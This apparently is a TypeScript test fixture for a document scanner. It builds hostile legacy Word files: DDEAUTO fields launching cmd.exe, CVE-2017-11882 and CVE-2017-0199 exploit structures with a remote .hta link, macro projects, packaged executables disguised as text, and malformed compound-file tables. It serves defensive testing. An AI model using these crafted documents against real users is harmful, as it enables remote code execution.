import { compoundFile, type Storage, wordStreams } from "../compound-file-writer.ts";
import { archive } from "../resumes.ts";
import { type HostileDocument, latin, packaged, vbaProject, windowsProgram } from "./hostile-document.ts";

const word = (more: Storage, options?: Parameters<typeof wordStreams>[0]) =>
  compoundFile({ ...wordStreams(options), ...more });
/** A document with one OLE object. */
const holding = (object: Storage) => word({ ObjectPool: { _1234567890: object } });
const field = (text: string) => word({}, { text: `\x13 ${text} \x14x\x15` });
function patched(change: (bytes: Buffer) => void): Buffer {
  const bytes = word({});
  change(bytes);
  return bytes;
}
/** Start of the FAT, which is the last sector of such a small file. */
const table = (bytes: Buffer) => bytes.length - 512;

/** Word 97-2003 documents with active content or cycles ([MS-CFB]; reports of libgsf and POI). */
export const hostileObjects: readonly HostileDocument[] = [
  ["a compound file's signature alone", Buffer.from("d0cf11e0a1b11ae1", "hex"), "damaged"],
  ["an encrypted package", compoundFile({ EncryptionInfo: latin("x"), EncryptedPackage: latin("x") }), "password"],
  ["an embedded table", holding({ Workbook: latin("x") }), ["embeddedObject"]],
  [
    "a DDE field of sixteen bits",
    word({}, { text: Buffer.from("\x13 DDE calc \x14\x15", "utf16le").toString("latin1") }),
    "runsOnOpen",
  ],
  ["a document with a VBA project", word({ Macros: { ...vbaProject, PROJECTwm: latin("x") } }), "macros"],
  ["an object with a VBA project", holding({ _VBA_PROJECT_CUR: vbaProject, Workbook: latin("x") }), "macros"],
  ["a packaged program", holding(packaged("calc.exe", windowsProgram)), "program"],
  ["a packaged program that is called a text", holding(packaged("a.txt", windowsProgram)), "program"],
  ["a packaged shortcut", holding(packaged("a.lnk", latin("L\0\0\0\x01\x14\x02\0"))), "program"],
  ["a packaged script", holding(packaged("a.js", latin("alert(1)"))), "program"],
  ["a packaged text", holding(packaged("a.txt", latin("x"))), ["attachment", "embeddedObject"]],
  [
    "an equation whose font's name is a program (CVE-2017-11882)",
    holding({
      "Equation Native": Buffer.concat([
        Buffer.from("1c000000020000000000", "hex"),
        latin(`\x08\x5a\x5acmd.exe /c calc${"A".repeat(60)}`),
      ]),
    }),
    ["embeddedObject"],
  ],
  [
    "an object of another machine (CVE-2017-0199)",
    holding({
      "\u0001Ole": Buffer.concat([
        Buffer.from("0100000201000000", "hex"),
        Buffer.from("e0c9ea79f9bace118c8200aa004ba90b", "hex"),
        Buffer.from("http://host/a.hta", "utf16le"),
      ]),
    }),
    "runsOnOpen",
  ],
  [
    "a control",
    holding({ "\u0003OCXNAME": Buffer.from("Shell", "utf16le"), "\u0003OCXDATA": latin("x") }),
    ["control", "embeddedObject"],
  ],
  ["an encrypted document in the older way", word({}, { flags: 0x8100 }), "password"],
  ["a DDE field of a document", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "runsOnOpen"],
  ["a spreadsheet of Excel 97", compoundFile({ Workbook: latin("\x09\x08") }), "spreadsheet"],
  ["slides of PowerPoint 97", compoundFile({ "PowerPoint Document": latin("x") }), "presentation"],
  ["a message of Outlook", compoundFile({ "__properties_version1.0": latin("x") }), "unknown"],
  ["a stream that goes on with itself", patched((bytes) => bytes.writeUInt32LE(0, table(bytes))), []],
  [
    "a directory that goes on with itself",
    patched((bytes) => bytes.writeUInt32LE(16, table(bytes) + 16 * 4)),
    "damaged",
  ],
  ["sectors of 2 GB", patched((bytes) => bytes.writeUInt16LE(31, 30)), "damaged"],
  ["a table of four thousand million sectors", patched((bytes) => bytes.writeUInt32LE(0xfffffff0, 44)), []],
  ["a list of tables that goes on with itself", patched((bytes) => bytes.writeUInt32LE(0, 68)), []],
  ["a directory outside of the file", patched((bytes) => bytes.writeUInt32LE(0xfffff0, 48)), "damaged"],
  ["a document cut behind its directory", word({}).subarray(0, -4096), "damaged"],
  [
    "a Word document with an archive behind its last sector",
    Buffer.concat([word({}), archive([{ name: "a", data: "x" }])]),
    "combined",
  ],
];
